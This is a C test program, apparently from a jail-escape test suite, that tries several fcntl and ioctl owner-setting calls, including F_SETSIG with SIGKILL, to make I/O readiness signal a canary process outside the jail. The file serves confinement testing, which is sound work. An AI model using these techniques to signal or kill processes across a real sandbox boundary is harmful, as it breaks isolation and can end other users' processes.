/* e0605-fsetown-sigio - make the kernel signal a process outside the jail
 * on I/O.
 *
 * Attack: F_SETOWN (and F_SETOWN_EX, the FIOSETOWN and SIOCSPGRP ioctls)
 * names the process that receives SIGIO when a descriptor with O_ASYNC
 * becomes ready; F_SETSIG picks another signal.  Naming the canary (a
 * process outside the jail; SIGIO's default action ends it) and making
 * the descriptor readable sends it a signal no kill() shows.
 * Source: the review in jail-syscall-review.txt ("F_SETOWN may give a
 * backdoor way to send signals to processes outside the jail").
 * Usage: e0605-fsetown-sigio CANARY-PID */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "escape.h"

/* Sets the owner of sv[0] with how(), makes it async and readable. */
static void attempt(const char *label, long (*how)(int, pid_t), pid_t canary)
{
	int sv[2];
	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) < 0)
		esc_die("socketpair");
	long r = how(sv[0], canary);
	esc_show_result(label, r);
	if (r == 0) {
		fcntl(sv[0], F_SETFL, O_ASYNC | O_NONBLOCK);
		if (write(sv[1], "x", 1) != 1)
			esc_die("write");
		usleep(50 * 1000);
	}
	close(sv[0]);
	close(sv[1]);
}

static long by_setown(int fd, pid_t c)
{
	return fcntl(fd, F_SETOWN, c);
}

static long by_setown_pgrp(int fd, pid_t c)
{
	return fcntl(fd, F_SETOWN, -c);
}

static long by_setown_ex(int fd, pid_t c)
{
	struct f_owner_ex o = { F_OWNER_PID, c };
	return fcntl(fd, F_SETOWN_EX, &o);
}

static long by_fiosetown(int fd, pid_t c)
{
	return ioctl(fd, FIOSETOWN, &c);
}

static long by_siocspgrp(int fd, pid_t c)
{
	return ioctl(fd, SIOCSPGRP, &c);
}

static long by_setsig_then_setown(int fd, pid_t c)
{
	long r = fcntl(fd, F_SETSIG, SIGKILL);
	esc_show_result("F_SETSIG SIGKILL", r);
	return fcntl(fd, F_SETOWN, c);
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0605-fsetown-sigio CANARY-PID");
	pid_t c = (pid_t)esc_number(argv[1]);
	attempt("fcntl F_SETOWN canary", by_setown, c);
	attempt("fcntl F_SETOWN -canary's group", by_setown_pgrp, c);
	attempt("fcntl F_SETOWN_EX canary", by_setown_ex, c);
	attempt("ioctl FIOSETOWN canary", by_fiosetown, c);
	attempt("ioctl SIOCSPGRP canary", by_siocspgrp, c);
	attempt("F_SETSIG, then F_SETOWN canary", by_setsig_then_setown, c);
	return 0;
}
